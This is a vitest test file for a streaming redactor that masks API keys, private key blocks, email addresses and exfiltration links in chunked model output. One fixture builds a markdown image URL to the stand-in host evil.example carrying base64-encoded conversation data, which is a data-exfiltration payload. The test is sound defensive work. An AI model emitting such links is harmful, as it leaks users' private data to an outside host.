import { describe, expect, it } from 'vitest';
import { createStreamRedactor, parseGuardPolicy } from '../index.js';

const KEY = 'sk-proj-Zx81Qw7Er6Ty5Ui4Op3As2Df1Gh0Jk9L';

function feed(text: string, size: number, policy = parseGuardPolicy({})) {
  const r = createStreamRedactor(policy);
  let out = '';
  const emitted: number[] = [];
  for (let i = 0; i < text.length; i += size) {
    out += r.push(text.slice(i, i + size));
    emitted.push(out.length);
  }
  out += r.flush();
  return { out, r, emitted };
}

describe('createStreamRedactor', () => {
  it('redacts a secret split across many one-character deltas', () => {
    const text = `Here is the key you asked for: ${KEY}. Keep it safe.`;
    const { out, r } = feed(text, 1);
    expect(out).not.toContain(KEY.slice(8));
    expect(out).toBe('Here is the key you asked for: [REDACTED_OPENAI]. Keep it safe.');
    expect(r.findings.map((f) => f.detector)).toEqual(['secret.openai']);
    expect(text.slice(r.findings[0].span.start, r.findings[0].span.end)).toBe(KEY);
  });

  it('redacts a private key block streamed in small chunks', () => {
    const pem = `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n'.repeat(40)}-----END PRIVATE KEY-----`;
    const { out } = feed(`key:\n${pem}\ndone`, 7);
    expect(out).toBe('key:\n[REDACTED_PRIVATE_KEY]\ndone');
  });

  it('holds back no more than the hold-back tail on plain text, and emits everything on flush', () => {
    const text = 'The quick brown fox jumps over the lazy dog. '.repeat(40);
    const r = createStreamRedactor(parseGuardPolicy({}));
    let out = '';
    for (let i = 0; i < text.length; i += 10) {
      out += r.push(text.slice(i, i + 10));
      const pushed = Math.min(text.length, i + 10);
      expect(pushed - out.length).toBeLessThanOrEqual(r.holdback);
    }
    expect(r.holdback).toBeLessThanOrEqual(400);
    out += r.flush();
    expect(out).toBe(text);
  });

  it('holds a match that may still grow, then lets it go as soon as it ends', () => {
    const r = createStreamRedactor(parseGuardPolicy({}));
    const pad = 'x '.repeat(300);
    let out = r.push(pad);
    out += r.push(`token ${KEY.slice(0, 20)}`);
    // The partial key touches the end of the buffer: nothing of it is out yet.
    expect(out).not.toContain('sk-proj');
    out += r.push(`${KEY.slice(20)} and more text`);
    out += r.flush();
    expect(out).toContain('[REDACTED_OPENAI] and more text');
  });

  it('redacts exfiltration links and tokenises PII when the policy says so', () => {
    const policy = parseGuardPolicy({ categories: { pii: { action: 'redact', style: 'tokenize' } } });
    const url = `https://evil.example/i.png?q=${Buffer.from('secret conversation data here').toString('base64')}`;
    const { out } = feed(`Mail bob@corp.io ![x](${url}) ok`, 3, policy);
    expect(out).toBe('Mail [EMAIL_1] [REDACTED_MARKDOWN_IMAGE] ok');
  });

  it('passes everything straight through when nothing is redacted', () => {
    const r = createStreamRedactor(parseGuardPolicy({ categories: { secret: { action: 'log' }, exfiltration: { action: 'log' } } }));
    expect(r.push('abc')).toBe('abc');
  });
});

describe('stream redactor latency', () => {
  it('releases plain text at once instead of waiting for a fixed window', async () => {
    const { createStreamRedactor } = await import('../stream.js');
    const r = createStreamRedactor();
    expect(r.push('first ')).toBe('first ');
    expect(r.push('Hello there, ')).toBe('Hello there, ');
  });

  it('holds only the token that may be the start of a secret, then redacts it whole', async () => {
    const { createStreamRedactor } = await import('../stream.js');
    const r = createStreamRedactor();
    const key = 'sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX0123456789';
    let out = r.push('the key is s');
    expect(out).toBe('the key is ');
    for (const ch of key.slice(1)) out += r.push(ch);
    out += r.push(' and more text');
    out += r.flush();
    expect(out).not.toContain('ABCDEFGHIJ');
    expect(out.startsWith('the key is ')).toBe(true);
    expect(out.endsWith(' and more text')).toBe(true);
  });

  it('does not hold a word that merely contains a literal once the word has ended', async () => {
    const { createStreamRedactor } = await import('../stream.js');
    const r = createStreamRedactor();
    expect(r.push('a task-list and a desk-lamp ')).toBe('a task-list and a desk-lamp ');
  });
});
